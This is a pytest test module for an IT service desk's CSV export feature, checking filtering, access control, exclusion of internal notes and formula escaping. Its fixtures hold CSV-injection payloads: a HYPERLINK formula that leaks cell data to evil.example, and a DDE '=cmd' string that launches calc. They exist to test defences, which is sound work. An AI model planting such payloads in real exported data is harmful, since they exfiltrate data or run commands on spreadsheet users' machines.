"""``?format=csv`` on every list the UI shows (``itsm.exports``).

For each list: the CSV holds exactly the rows of the filtered list, every page of it, in the
page's order; a title that is a spreadsheet formula comes out as text; an end user's export
holds only their own tickets; no internal note is ever in it; and the number of queries does
not grow with the number of rows.
"""

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from catalog import services as catalog_services
from changes import services as change_services
from incidents import services as incident_services
from itsm import exports
from itsm.testing import make_incident, make_persona, make_team
from problems import services as problem_services
from tests.catalog.conftest import make_item, order
from tests.changes.builders import make_change

FORMULA = '=HYPERLINK("https://evil.example/Printer?leak="&A1,"Printer")'
SECRET = "SECRET internal note: the root password is hunter2"


@pytest.fixture
def world(db):
    alice, bob = make_persona("alice"), make_persona("bob")
    people = {
        "rita": make_persona("rita"),
        "eve": make_persona("eve"),
        "alice": alice,
        "bob": bob,
        "paula": make_persona("paula"),
        "chris": make_persona("chris"),
        "max": make_persona("max"),
        "desk": make_team("Service Desk", members=[alice]),
        "network": make_team("Network", members=[bob]),
    }
    return people


def _title(index: int) -> str:
    return FORMULA if index == 0 else f"Printer number {index}"


# --- What each list is made of: rows that match the list's filter, and rows that must not show


def incidents(w, count, start=0):
    for index in range(start, start + count):
        incident = make_incident(requester=w["rita"], title=_title(index))
        if index == 0:
            incident_services.comment(incident, actor=w["alice"], body=SECRET, internal=True)
    if start == 0:  # another requester's: outside the filter
        make_incident(requester=w["eve"], title="Printer of someone else")


def problems(w, count, start=0):
    for index in range(start, start + count):
        problem = problem_services.open_problem(
            actor=w["paula"], title=_title(index), description="d", assignment_group=w["desk"]
        )
        if index == 0:
            problem_services.comment(problem, actor=w["paula"], body=SECRET, internal=True)
    if start == 0:
        problem_services.open_problem(
            actor=w["paula"], title="Network", description="d", assignment_group=w["network"]
        )


def changes(w, count, start=0):
    for index in range(start, start + count):
        change = make_change(actor=w["chris"], title=_title(index), assignment_group=w["desk"])
        if index == 0:
            change_services.comment(change, actor=w["chris"], body=SECRET, internal=True)
    if start == 0:
        make_change(actor=w["chris"], title="Network", assignment_group=w["network"])


def _item(name, team):
    from catalog.models import CatalogItem

    return CatalogItem.objects.filter(name=name).first() or make_item(
        name, fulfillment_team=team, form=[]
    )


def _items(w):
    return (
        _item(FORMULA, w["desk"]),
        _item("Printer toner", w["desk"]),
        _item("Network port", w["network"]),
    )


def requests(w, count, start=0):
    formula, toner, network = _items(w)
    for index in range(start, start + count):
        ticket = order(formula if index == 0 else toner, by=w["rita"], answers={})
        if index == 0:
            catalog_services.comment(ticket, actor=w["alice"], body=SECRET, internal=True)
            catalog_services.comment_task(
                ticket.tasks.get(), actor=w["alice"], body=SECRET, internal=True
            )
    if start == 0:
        order(network, by=w["rita"], answers={})  # another team's
        order(toner, by=w["eve"], answers={})  # someone else's (the portal list must not show it)


def known_issues(w, count, start=0):
    for index in range(start, start + count):
        problem = problem_services.open_problem(
            actor=w["paula"],
            title=_title(index),
            description="d",
            known_error=True,
            workaround="Restart the spooler.",
            publish_workaround=True,
        )
        if index == 0:
            problem_services.comment(problem, actor=w["paula"], body=SECRET, internal=True)
    if start == 0:  # a known error not published, and a plain problem: not in the portal
        problem_services.open_problem(
            actor=w["paula"], title="Not yet", description="d", known_error=True, workaround="x"
        )
        problem_services.open_problem(actor=w["paula"], title="Plain", description="d")


@dataclass(frozen=True)
class Listing:
    url_name: str
    build: Any  # build(world, count, start=0)
    viewer: str
    params: Any  # params(world) -> the list's filters
    page_size: tuple[str, str]  # (module, constant) of the page size
    file: str  # the download's name before the date
    title: str  # the header of the column holding the formula
    others: int = 0  # rows the builder adds that the filter keeps too


LISTS = {
    "incidents": Listing(
        "incidents:incident_list",
        incidents,
        "alice",
        lambda w: {"queue": "all", "requester": w["rita"].pk},
        ("incidents.views", "LIST_SIZE"),
        "incidents",
        "Title",
    ),
    "problems": Listing(
        "problems:problem_list",
        problems,
        "max",
        lambda w: {"queue": "all", "assignment_group": w["desk"].pk},
        ("problems.views", "LIST_SIZE"),
        "problems",
        "Title",
    ),
    "changes": Listing(
        "changes:change_list",
        changes,
        "chris",
        lambda w: {"queue": "all", "assignment_group": w["desk"].pk},
        ("changes.views.pages", "LIST_SIZE"),
        "changes",
        "Title",
    ),
    "requests": Listing(
        "catalog:request_list",
        requests,
        "alice",
        lambda w: {"queue": "all", "assignment_group": w["desk"].pk, "requester": w["rita"].pk},
        ("catalog.views.common", "LIST_SIZE"),
        "requests",
        "Item",
    ),
    "tasks": Listing(
        "catalog:task_list",
        requests,
        "alice",
        lambda w: {"queue": "all", "assignment_group": w["desk"].pk},
        ("catalog.views.common", "LIST_SIZE"),
        "tasks",
        "Title",
        others=1,  # eve's request's task is the desk's too
    ),
    "my_tickets": Listing(
        "portal:ticket_list",
        incidents,
        "rita",
        lambda w: {"tab": "open", "q": "printer"},
        ("portal.views", "PAGE_SIZE"),
        "my-tickets",
        "Title",
    ),
    "my_requests": Listing(
        "catalog:portal_request_list",
        requests,
        "rita",
        lambda w: {"tab": "open"},
        ("catalog.views.portal", "PAGE_SIZE"),
        "my-requests",
        "Item",
        others=1,  # rita's request for a network port
    ),
    "known_issues": Listing(
        "portal:knowledge",
        known_issues,
        "rita",
        lambda w: {},
        ("portal.views", "KNOWLEDGE_SIZE"),
        "known-issues",
        "Title",
    ),
}


def download(client, listing: Listing, params: dict) -> list[dict]:
    response = client.get(reverse(listing.url_name), {**params, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{listing.file}-{today}.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM spreadsheets need to read accents right
    return list(csv.DictReader(io.StringIO(text[1:])))


def walk(client, listing: Listing, params: dict) -> tuple[list[str], int]:
    """The numbers the list shows, page after page, following its own "Next" links."""
    numbers, pages, cursor = [], 0, None
    while True:
        response = client.get(
            reverse(listing.url_name), {**params, **({"cursor": cursor} if cursor else {})}
        )
        assert response.status_code == 200
        page = response.context["page"]
        numbers += [row.number for row in page.rows]
        pages += 1
        if not page.next_cursor:
            return numbers, pages
        cursor = page.next_cursor


def signed_in(client, world, who):
    client.force_login(world[who])
    return client


@pytest.mark.parametrize("name", list(LISTS))
def test_the_csv_holds_every_page_of_the_filtered_list_in_its_order(
    name, world, client, monkeypatch
):
    listing = LISTS[name]
    listing.build(world, 7)
    monkeypatch.setattr(f"{listing.page_size[0]}.{listing.page_size[1]}", 3)
    monkeypatch.setattr(exports, "CHUNK", 2)  # and the export reads by chunks of two
    signed_in(client, world, listing.viewer)
    params = listing.params(world)

    shown, pages = walk(client, listing, params)
    rows = download(client, listing, params)

    assert pages == 3 and len(shown) == 7 + listing.others
    assert [row["Number"] for row in rows] == shown


@pytest.mark.parametrize("name", list(LISTS))
def test_a_formula_in_a_title_comes_out_as_text(name, world, client):
    listing = LISTS[name]
    listing.build(world, 2)
    signed_in(client, world, listing.viewer)
    rows = download(client, listing, listing.params(world))

    cells = [cell for row in rows for cell in row.values()]
    assert "'" + FORMULA in [row[listing.title] for row in rows]
    assert not [cell for cell in cells if cell.startswith(tuple(exports.spreadsheet.TRIGGERS))]


@pytest.mark.parametrize("name", list(LISTS))
def test_internal_notes_are_never_in_the_export(name, world, client):
    listing = LISTS[name]
    listing.build(world, 2)
    signed_in(client, world, listing.viewer)
    response = client.get(reverse(listing.url_name), {"format": "csv"})

    text = b"".join(response.streaming_content).decode("utf-8")
    assert "hunter2" not in text and len(text.splitlines()) >= 2


@pytest.mark.parametrize("name", list(LISTS))
def test_a_list_longer_than_one_download_is_refused_with_a_message(name, world, client, settings):
    """Past LIST_EXPORT_MAX_ROWS the download is refused before a byte is sent (one cut off by
    the web worker's timeout would look whole); at the cap it is whole."""
    listing = LISTS[name]
    listing.build(world, 3)
    signed_in(client, world, listing.viewer)
    params = {**listing.params(world), "format": "csv"}
    settings.LIST_EXPORT_MAX_ROWS = 3 + listing.others
    assert len(download(client, listing, listing.params(world))) == 3 + listing.others

    settings.LIST_EXPORT_MAX_ROWS = 2 + listing.others
    response = client.get(reverse(listing.url_name), params)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert "Content-Disposition" not in response
    assert f"more than {2 + listing.others} rows" in response.content.decode()
    assert "export_data" in response.content.decode()


def test_the_refusal_of_a_long_list_is_a_page_in_the_readers_language(world, client, settings):
    """The browser shows the refusal where the download would have been (the link is a plain
    link): the error page, with the desk's navigation, in the reader's language."""
    listing = LISTS["incidents"]
    listing.build(world, 2)
    signed_in(client, world, listing.viewer)
    settings.LIST_EXPORT_MAX_ROWS = 1
    response = client.get(
        reverse(listing.url_name),
        {**listing.params(world), "format": "csv"},
        HTTP_ACCEPT_LANGUAGE="fr",
    )

    assert response.status_code == 400
    assert [t.name for t in response.templates][:2] == ["400.html", "base.html"]
    html = response.content.decode()
    assert '<html lang="fr"' in html and "Erreur 400" in html
    assert "Cette liste compte plus de 1 ligne" in html and "export_data" in html


def test_the_cmdb_export_is_capped_too(world, client, settings):
    from cmdb import services as cmdb_services
    from cmdb.models import CIClass

    server = CIClass.objects.get(name="server")
    for name in ("srv-a", "srv-b"):
        cmdb_services.create_ci(actor=None, name=name, ci_class=server)
    signed_in(client, world, "max")
    settings.LIST_EXPORT_MAX_ROWS = 1
    response = client.get(reverse("cmdb:ci_list"), {"format": "csv", "ci_class": "server"})
    assert response.status_code == 400 and "more than 1 row," in response.content.decode()
    # the CMDB's own links to its export are plain links too: the refusal shows as a page
    page = client.get(reverse("cmdb:ci_list"), {"ci_class": "server"}).content.decode()
    assert f'href="{reverse("cmdb:ci_export")}?ci_class=server">' in page


@pytest.mark.parametrize("name", ["my_tickets", "my_requests"])
def test_an_end_users_export_holds_only_their_own_tickets(name, world, client):
    listing = LISTS[name]
    listing.build(world, 3)
    # eve's own ticket or request, and one more of rita's
    if name == "my_tickets":
        theirs = make_incident(requester=world["eve"], title="Printer of eve").number
    else:
        theirs = order(_item("Printer toner", world["desk"]), by=world["eve"], answers={}).number
    signed_in(client, world, "rita")

    for params in ({}, {"tab": "open"}, {"tab": "closed"}, {"q": theirs}):
        numbers = [row["Number"] for row in download(client, listing, params)]
        assert theirs not in numbers
    rita_sees = {row["Number"] for row in download(client, listing, {"tab": "open"})}
    assert len(rita_sees) == 3 + listing.others


@pytest.mark.parametrize("name", ["incidents", "problems", "changes", "requests", "tasks"], ids=str)
def test_end_users_cannot_export_the_desk_lists(name, world, client):
    listing = LISTS[name]
    listing.build(world, 1)
    for who in ("rita", "eve"):
        signed_in(client, world, who)
        response = client.get(reverse(listing.url_name), {"format": "csv"})
        assert response.status_code == 403
        assert not response.has_header("Content-Disposition")


@pytest.mark.parametrize("name", list(LISTS))
def test_the_queries_do_not_grow_with_the_rows(name, world, client, django_assert_max_num_queries):
    listing = LISTS[name]
    listing.build(world, 5)
    signed_in(client, world, listing.viewer)
    params = listing.params(world)
    with django_assert_max_num_queries(8) as five:
        assert len(download(client, listing, params)) == 5 + listing.others
    listing.build(world, 45, start=5)
    with django_assert_max_num_queries(8) as fifty:
        assert len(download(client, listing, params)) == 50 + listing.others
    assert len(fifty.captured_queries) == len(five.captured_queries)


@pytest.mark.parametrize(
    ("name", "bad"),
    [
        ("incidents", {"state": "nonsense"}),
        ("problems", {"priority": "9"}),
        ("changes", {"risk": "nonsense"}),
        ("requests", {"created_after": "yesterday"}),
        ("tasks", {"assignment_group": "999999"}),
    ],
)
def test_a_filter_that_does_not_parse_is_a_400_naming_it(name, bad, world, client):
    """Not an empty file that would pass for the list: the reader learns which filter is wrong."""
    listing = LISTS[name]
    signed_in(client, world, listing.viewer)
    response = client.get(reverse(listing.url_name), {**bad, "format": "csv"})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    field = next(iter(bad))
    label = {"created_after": "Created after", "assignment_group": "Team"}.get(field, field)
    assert response.content.decode().lower().startswith(label.lower() + ":")


def test_headers_follow_the_readers_language_and_dates_are_iso_8601(world, client):
    listing = LISTS["incidents"]
    listing.build(world, 1)
    signed_in(client, world, "alice")
    response = client.get(
        reverse(listing.url_name), {"queue": "all", "format": "csv"}, HTTP_ACCEPT_LANGUAGE="fr"
    )
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:])))

    assert rows[0][0] == "Numéro" and "Titre" in rows[0]
    updated = rows[1][rows[0].index("Mis à jour")]
    assert timezone.datetime.fromisoformat(updated).tzinfo is not None


def test_the_list_pages_link_to_their_csv_with_their_filters(world, client, monkeypatch):
    incidents(world, 1)  # and one of eve's: two rows, on two pages of one
    monkeypatch.setattr("incidents.views.LIST_SIZE", 1)
    signed_in(client, world, "alice")
    url = reverse("incidents:incident_list")
    first = client.get(url, {"queue": "all", "state": "new"})
    cursor = first.context["page"].next_cursor
    second = client.get(url, {"queue": "all", "state": "new", "cursor": cursor})

    # A plain link, no ``download`` attribute: the CSV comes as an attachment anyway
    # (Content-Disposition), and a refusal (a 400 page) shows instead of a failed download.
    link = (
        'class="btn btn-sm btn-outline-secondary list-csv position-relative" '
        'href="?queue=all&amp;state=new&amp;format=csv">'
    )
    for page in (first, second):  # every page downloads the whole list, not itself
        assert link in page.content.decode()
    assert f"cursor={cursor}" in first.content.decode()  # the pager still pages

    signed_in(client, world, "rita")
    html = client.get(reverse("portal:ticket_list"), {"tab": "open", "q": "printer"})
    assert 'href="?tab=open&amp;q=printer&amp;format=csv">' in html.content.decode()


def test_the_cmdb_export_goes_through_the_same_helper(world, client, monkeypatch):
    from cmdb import services as cmdb_services
    from cmdb.models import CIClass

    server = CIClass.objects.get(name="server")
    for name in ("srv-b", "srv-a", "=cmd|' /C calc'!A0"):
        cmdb_services.create_ci(actor=None, name=name, ci_class=server)
    calls = []
    real = exports.chunked
    monkeypatch.setattr(exports, "chunked", lambda *a, **k: calls.append(a) or real(*a, **k))
    signed_in(client, world, "max")
    response = client.get(reverse("cmdb:ci_list"), {"format": "csv", "ci_class": "server"})

    assert calls and response["Content-Disposition"].startswith('attachment; filename="cmdb-')
    text = b"".join(response.streaming_content).decode("utf-8")
    names = [row["name"] for row in csv.DictReader(io.StringIO(text[1:]))]
    assert names == ["'=cmd|' /C calc'!A0", "srv-a", "srv-b"]  # the list's order: by name


@pytest.mark.e2e
def test_the_desk_list_downloads_its_filtered_csv_from_the_keyboard(page, login, demo_users):
    """In a browser: filter the desk list by team (htmx reloads the rows), then reach the
    "Download CSV" link with the keyboard; the file is the filtered list, formula-safe."""
    from accounts.models import Team

    mine, other = Team.objects.order_by("name")[:2]
    requester = demo_users["enduser"]
    wanted = {
        make_incident(requester=requester, assignment_group=mine, title=title).number
        for title in (FORMULA, "Printer on the second floor")
    }
    make_incident(requester=requester, assignment_group=other, title="Not this team's")
    login(page, "agent")
    page.goto("/desk/?queue=all")
    page.locator("#id_assignment_group").select_option(str(mine.pk))
    link = page.locator(f'#incident-rows a.list-csv[href*="assignment_group={mine.pk}"]')
    link.wait_for()

    link.focus()
    with page.expect_download() as started:
        page.keyboard.press("Enter")
    download = started.value
    today = timezone.localdate().isoformat()
    assert download.suggested_filename == f"incidents-{today}.csv"
    with open(download.path(), encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert {row["Number"] for row in rows} == wanted
    assert "'" + FORMULA in [row["Title"] for row in rows]
